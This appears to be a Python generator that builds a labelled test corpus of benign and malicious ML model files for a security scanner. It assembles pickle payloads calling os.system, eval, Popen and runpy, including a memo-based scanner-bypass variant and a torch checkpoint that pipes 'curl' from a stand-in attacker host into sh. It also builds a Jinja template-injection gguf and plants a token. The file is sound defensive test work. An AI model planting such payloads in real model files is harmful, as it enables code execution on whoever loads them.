"""Model zoo generator: benign and malicious model files, as bytes only.

Malicious samples are raw pickle opcodes assembled here (never a pickled live object, never loaded, never run);
benign pickles are plain containers written with ``pickle.dumps`` (dumping is not loading).

    python -m corpora.gen_model_zoo --out corpora/out/model_zoo [--seed 11] [--pad-mb 0]

Ground truth ``models`` entries: ``path``, ``verdict`` (benign | malicious), ``evidence`` (names any of which
must appear in a finding's message or evidence, e.g. ``os.system``), ``placement`` (the sample class) and
``requires``. ``--pad-mb`` adds a large benign torch-style checkpoint (tensor bytes) for benchmarks.
"""

from __future__ import annotations

import argparse
import io
import json
import pickle
import random
import shutil
import struct
import sys
import zipfile
from pathlib import Path

if __package__ in (None, ""):  # run as a script: make ``corpora`` importable
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from corpora.common import MODEL, Truth, default_out, make_secret, write_file

# ---- a tiny pickle opcode assembler (bytes only) -------------------------------------------------------------


def g0(module: str, name: str) -> bytes:
    """GLOBAL opcode (protocol 0-3 style): ``c<module>\\n<name>\\n``."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def u(s: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE string."""
    b = s.encode()
    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else (b"X" + struct.pack("<I", len(b)) + b)


def bb(data: bytes) -> bytes:
    """SHORT_BINBYTES / BINBYTES."""
    return (b"C" + bytes([len(data)]) + data) if len(data) < 256 else (b"B" + struct.pack("<I", len(data)) + data)


def call(fn: bytes, *args: bytes) -> bytes:
    """``fn(*args)`` via MARK ... TUPLE REDUCE."""
    return fn + b"(" + b"".join(args) + b"tR"


def reduce_payload(module: str, name: str, arg: str, proto: int = 2) -> bytes:
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    return head + call(g0(module, name), u(arg) if proto >= 2 else b"S'" + arg.encode() + b"'\n") + b"."


def stack_global_memo(module: str, name: str, arg: str) -> bytes:
    """Protocol 4: operands of STACK_GLOBAL fetched from the memo (BINGET), a classic scanner bypass."""
    return (b"\x80\x04" + u(module) + b"\x94" + b"0" + u(name) + b"\x94" + b"0" + b"h\x00" + b"h\x01" + b"\x93"
            + u(arg) + b"\x85R.")


def torch_data_pkl(malicious: bool) -> bytes:
    """A state dict like ``torch.save`` writes (OrderedDict of one tensor via ``_rebuild_tensor_v2`` and a
    persistent storage id); the malicious variant wraps it in an ``os.system`` call first."""
    storage = b"(" + u("storage") + g0("torch", "FloatStorage") + u("0") + u("cpu") + b"K\x04tQ"
    tensor = call(g0("torch._utils", "_rebuild_tensor_v2"),
                  storage, b"K\x00", b"K\x02K\x02\x86", b"K\x02K\x01\x86", b"\x89",
                  call(g0("collections", "OrderedDict")))
    body = call(g0("collections", "OrderedDict")) + b"q\x00" + b"(" + u("weight") + tensor + b"u"
    if malicious:
        body = call(g0("os", "system"), u("curl -s https://attacker.invalid/x | sh")) + b"0" + body
    return b"\x80\x02" + body + b"."


def _zput(z: zipfile.ZipFile, name: str, data: bytes | str) -> None:
    """Add a member with a fixed timestamp (deterministic output)."""
    z.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data)


def torch_zip(data_pkl: bytes, tensor_bytes: bytes, name: str = "archive") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        _zput(z, f"{name}/data.pkl", data_pkl)
        _zput(z, f"{name}/data/0", tensor_bytes)
        _zput(z, f"{name}/version", b"3\n")
    return buf.getvalue()


def safetensors_file(rng: random.Random) -> bytes:
    data = rng.randbytes(16)
    header = json.dumps({"__metadata__": {"format": "pt"},
                         "weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + data


def _gguf_str(s: str) -> bytes:
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gguf_file(kvs: list[tuple[str, str]]) -> bytes:
    out = b"GGUF" + struct.pack("<I", 3) + struct.pack("<Q", 0) + struct.pack("<Q", len(kvs))
    for k, v in kvs:
        out += _gguf_str(k) + struct.pack("<I", 8) + _gguf_str(v)
    return out


def npy_header(descr: str, shape: tuple[int, ...]) -> bytes:
    d = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape!r}, }}"
    total = 10 + len(d) + 1
    d += " " * (-total % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(d)) + d.encode()


def keras_file(lambda_nested: bool) -> bytes:
    layers: list[dict[str, object]] = [{"class_name": "Dense", "config": {"units": 8}}]
    if lambda_nested:
        layers.append({"class_name": "Sequential", "config": {"layers": [
            {"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {
                "code": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMEAAAAfABTACkBTqkAKQHaAXhyAgAAAHICAAAA",
                "defaults": None, "closure": None}}}}]}})
    cfg = {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": layers}}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        _zput(z, "metadata.json", json.dumps({"keras_version": "3.3.3"}))
        _zput(z, "config.json", json.dumps(cfg))
        _zput(z, "model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 64)
    return buf.getvalue()


def generate(out: Path, seed: int = 11, pad_mb: float = 0.0, clean: bool = True) -> Truth:
    if clean and out.exists():
        shutil.rmtree(out)
    out.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    truth = Truth("model_zoo", seed, {"pad_mb": pad_mb})

    def model(rel: str, data: bytes, verdict: str, placement: str, evidence: tuple[str, ...] = ()) -> None:
        write_file(out, rel, data)
        truth.models.append({"path": rel, "verdict": verdict, "evidence": list(evidence), "placement": placement,
                             "requires": [MODEL]})

    # benign
    model("benign/optimizer_state.pkl", pickle.dumps({"lr": 1e-3, "betas": [0.9, 0.999], "step": 1200}, protocol=4),
          "benign", "plain-dict")
    model("benign/floats_5000.pkl", pickle.dumps({f"w{i}": rng.random() for i in range(5000)}, protocol=2),
          "benign", "plain-dict-large")
    model("benign/pytorch_model.bin", torch_zip(torch_data_pkl(False), rng.randbytes(16)), "benign", "torch-zip")
    model("benign/model.safetensors", safetensors_file(rng), "benign", "safetensors")
    model("benign/model.gguf", gguf_file([("general.architecture", "llama"),
                                          ("tokenizer.chat_template",
                                           "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}")]),
          "benign", "gguf")
    model("benign/array.npy", npy_header("<f4", (4,)) + rng.randbytes(16), "benign", "npy")
    model("benign/model.keras", keras_file(False), "benign", "keras")
    if pad_mb > 0:
        model("benign/large/pytorch_model.bin", torch_zip(torch_data_pkl(False), rng.randbytes(int(pad_mb * 1e6))),
              "benign", "torch-zip-large")

    # malicious
    model("malicious/proto0_os_system.pkl", reduce_payload("os", "system", "id", proto=0), "malicious",
          "global-reduce", ("os.system",))
    model("malicious/posix_system_memo.pkl", stack_global_memo("posix", "system", "id"), "malicious",
          "stack-global-memo", ("posix.system",))
    model("malicious/builtins_eval.pkl", reduce_payload("builtins", "eval", "print(1)"), "malicious",
          "builtins-eval", ("builtins.eval",))
    model("malicious/pytorch_model.bin", torch_zip(torch_data_pkl(True), rng.randbytes(16)), "malicious",
          "torch-zip", ("os.system",))
    model("malicious/model.bin", reduce_payload("subprocess", "Popen", "id"), "malicious", "plain-pickle-bin",
          ("subprocess.Popen",))
    model("malicious/truncated.pkl", reduce_payload("os", "system", "id")[:-1], "malicious", "truncated",
          ("os.system",))
    inner = reduce_payload("os", "system", "id")
    model("malicious/nested_loads.pkl", b"\x80\x02" + call(g0("pickle", "loads"), bb(inner)) + b".", "malicious",
          "nested-loads", ("pickle.loads", "os.system"))
    model("malicious/object_array.npy", npy_header("|O", (1,)) + reduce_payload("os", "system", "id"), "malicious",
          "npy-object", ("os.system",))
    model("malicious/runpy.pkl", reduce_payload("runpy", "_run_code", "x"), "malicious", "denylist-gap",
          ("runpy._run_code", "runpy"))
    model("malicious/pkgutil_resolve.pkl", reduce_payload("pkgutil", "resolve_name", "os:system"), "malicious",
          "denylist-gap", ("pkgutil.resolve_name",))
    model("malicious/model.keras", keras_file(True), "malicious", "keras-lambda", ("Lambda", "__lambda__"))
    model("malicious/chat_template.gguf",
          gguf_file([("general.architecture", "llama"), ("tokenizer.chat_template",
                      "{{ ''.__class__.__mro__[1].__subclasses__()[40]('id') }}")]),
          "malicious", "gguf-jinja", ("__subclasses__", "__class__", "chat_template"))

    # a leaked token next to the models (text placement)
    s = make_secret(rng, "huggingface.user-token")
    text = json.dumps({"model_type": "llama", "hub_token": s.secret, "torch_dtype": "float16"}, indent=2) + "\n"
    write_file(out, "benign/config.json", text)
    truth.secret("benign/config.json", s.rule_id, s.secret, "text", (), 3, True)
    truth.write(out)
    return truth


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--seed", type=int, default=11)
    ap.add_argument("--pad-mb", type=float, default=0.0, help="size of an extra large benign checkpoint")
    ap.add_argument("--out", type=Path, default=default_out("model_zoo"))
    a = ap.parse_args(argv)
    t = generate(a.out, a.seed, a.pad_mb)
    print(f"wrote {a.out}: {len(t.models)} model files, {len(t.secrets)} planted secrets", file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
